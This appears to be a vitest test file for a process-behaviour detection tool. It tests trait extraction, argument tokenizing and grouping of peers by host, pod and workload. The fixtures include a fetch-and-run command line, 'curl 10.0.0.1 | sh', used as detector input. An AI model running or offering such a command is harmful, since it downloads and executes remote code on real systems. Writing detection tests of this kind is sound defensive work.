import { describe, expect, it } from 'vitest';
import { peersOf } from './peers';
import { constantWords, traitsOf } from './traits';

const CURL = { binary: '/usr/bin/curl', arguments: '-s http://10.0.0.1/x', flags: [] };

describe('traitsOf', () => {
  it('compares binary, shape of arguments and parent', () => {
    const traits = traitsOf(CURL, { binary: '/bin/sh', flags: [] });
    expect(traits.map(({ trait, value }) => [trait, value])).toEqual([
      ['binary', '/usr/bin/curl'],
      ['arguments', '-s http://<address>/x'],
      ['parent', '/bin/sh'],
    ]);
  });

  it('leaves out what is not known', () => {
    expect(traitsOf({ flags: [] }, undefined)).toEqual([]);
    const [, args, parent] = traitsOf({ binary: '/bin/ls', flags: [] }, undefined);
    // No arguments are asked for as such, so nothing has to be looked at one by one.
    expect(args).toMatchObject({ value: '' });
    expect(args).not.toHaveProperty('shape');
    expect(parent).toBeUndefined();
  });
});

it.each([
  ['-c "curl 10.0.0.1 | sh"', ['-c', '"curl', '|', 'sh"']],
  ['sleep 5', ['sleep']],
  ['a a b', ['a', 'b']],
  ['x'.repeat(2_000), []],
])('every run of %j has its constant words', (args, words) => {
  expect(constantWords(args)).toEqual(words);
});

it.each([
  [{ flags: [] }, { kind: 'host' }, 'host' as const],
  [{ flags: [] }, { kind: 'cluster' }, 'unknown' as const],
  [{ flags: [], docker: 'abc' }, { kind: 'cluster' }, 'unresolved' as const],
  [
    { flags: [], pod: { namespace: 'shop', name: 'debug', labels: {}, annotations: {} } },
    { kind: 'namespace', namespace: 'shop' },
    'pod' as const,
  ],
  [
    {
      flags: [],
      pod: { namespace: 'shop', name: 'api-1', workload: 'api', labels: {}, annotations: {} },
    },
    { kind: 'workload', namespace: 'shop', workload: 'api' },
    'pod' as const,
  ],
])('compares %j within %j', (process, peers, place) => {
  expect(peersOf(process, place)).toEqual(peers);
});
